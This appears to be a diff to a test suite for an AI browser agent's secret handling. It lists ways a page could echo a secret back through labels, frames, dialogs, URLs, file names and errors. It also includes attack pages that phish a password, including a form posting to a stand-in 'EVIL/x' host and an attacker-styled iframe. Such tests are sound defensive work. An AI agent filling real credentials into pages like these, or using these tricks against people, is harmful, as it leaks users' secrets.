@@ -10,7 +10,7 @@ _SEARCH: Calls = (("search_page", {"pattern": r"\S+", "regex": True, "max_result
 _FIND: Calls = (
     (
         "find_elements",
-        {"selector": "*", "attributes": ["title", "href", "value", "data-x", "class", "id", "alt", "src"]},
+        {"selector": ".MARK *", "attributes": ["title", "href", "value", "data-x", "class", "id", "alt", "src"]},
     ),
 )
 _PUT = "const put = (tag, more, text = '') => { const e = document.createElement(tag); e.textContent = text; for (const k in more) e.setAttribute(k, more[k]); out.append(e); return e; };"
@@ -34,19 +34,19 @@ ECHOES = [
     echo("in names", f"{_PUT} put('button', {{'aria-label': s}}); put('img', {{alt: s}}); put('canvas', {{'aria-label': s}}); put('iframe', {{title: s}}); put('div', {{role: 'slider', 'aria-valuetext': s, tabindex: 0}})"),
     echo("in values", f"{_PUT} put('input', {{'aria-label': 'a'}}).value = s; put('textarea', {{'aria-label': 'b'}}).value = s; put('input', {{placeholder: s}}); put('select', {{}}).append(new Option(s, s))", _FIND),
     echo("in a shadow root", f"{_PUT} put('div', {{}}).attachShadow({{mode: 'closed'}}).textContent = s"),
-    echo("in a frame", f"{_PUT} put('iframe', {{srcdoc: '<p>' + s}})", _SEARCH),
+    echo("in a frame", f"{_PUT} put('iframe', {{srcdoc: '<p>' + s}})", _SEARCH, alone=True),
     echo("by a style sheet", f"{_PUT} put('style', {{}}, `p::after {{ content: '${{s}}' }}`); say('x')"),
     echo("in a dialog", "alert(s); confirm([...s].reverse().join('')); prompt(s, s)"),
-    echo("in a new tab", "window.open('/?p=' + s)"),
+    echo("in a new tab", "window.open('/?p=' + s)", alone=True),
     echo("in the name of a file", "const a = document.createElement('a'); a.download = s + '.txt'; a.href = window.URL.createObjectURL(new Blob(['x'])); a.click()", downloads=1),
     echo("in a request that fails", "fetch('/missing/' + s)"),
     echo("in an error", "console.error(s); setTimeout(() => { throw new Error(s) })"),
-    echo("to a search", "say('You typed ' + s + ' there')", _SEARCH),
-    echo("letter by letter to a search", "say('You typed ' + s + ' there')", (("search_page", {"pattern": "You typed (?:Ki|[^K])", "regex": True, "context_chars": 500}),)),
+    echo("to a search", "say('You typed ' + s + ' there')", _SEARCH, alone=True),
+    echo("letter by letter to a search", "say('You typed ' + s + ' there')", (("search_page", {"pattern": "You typed (?:Ki|[^K])", "regex": True, "context_chars": 500}),), alone=True),
     echo("in a table", f"{_PUT} const r = put('table', {{}}).insertRow(); for (const part of [s.slice(0, 5), s.slice(5, 10), s.slice(10)]) r.insertCell().textContent = part"),
     echo("as a password that is shown", "event.target.type = 'text'"),
     echo("in the caret's line", f"{_PUT} const e = put('div', {{contenteditable: '', role: 'textbox', 'aria-label': 'E'}}, s); e.focus()"),
-    Attack("a field that is no password", "<title>Shop</title><form><input aria-label=Password></form>", calls=(("fill", {"ref": "{{ref:textbox Password}}", "value": "<secret:password>"}), ("snapshot", {}))),
-    Attack("a form that leads away", "<title>Shop</title><form action='EVIL/x'><input type=password aria-label=Password></form>", calls=(("fill", {"ref": "{{ref:textbox Password}}", "value": "<secret:password>"}), ("press", {"key": "Enter"}))),
-    Attack("a field in a frame of the attacker's look", "<title>Shop</title><iframe sandbox='allow-scripts' srcdoc='<input type=password aria-label=Password>'></iframe>", calls=(("fill", {"ref": "{{ref:textbox Password}}", "value": "<secret:password>"}),)),
+    Attack("a field that is no password", "<form><input aria-label='Password MARK'></form>", calls=(("fill", {"ref": "{{ref:textbox Password MARK}}", "value": "<secret:password>"}), ("snapshot", {}))),
+    Attack("a form that leads away", "<form action='EVIL/x'><input type=password aria-label='Password MARK'></form>", calls=(("fill", {"ref": "{{ref:textbox Password MARK}}", "value": "<secret:password>"}), ("press", {"key": "Enter"}))),
+    Attack("a field in a frame of the attacker's look", "<iframe sandbox='allow-scripts' srcdoc='<input type=password aria-label=&quot;Password MARK&quot;>'></iframe>", calls=(("fill", {"ref": "{{ref:textbox Password MARK}}", "value": "<secret:password>"}),)),
 ]  # fmt: skip
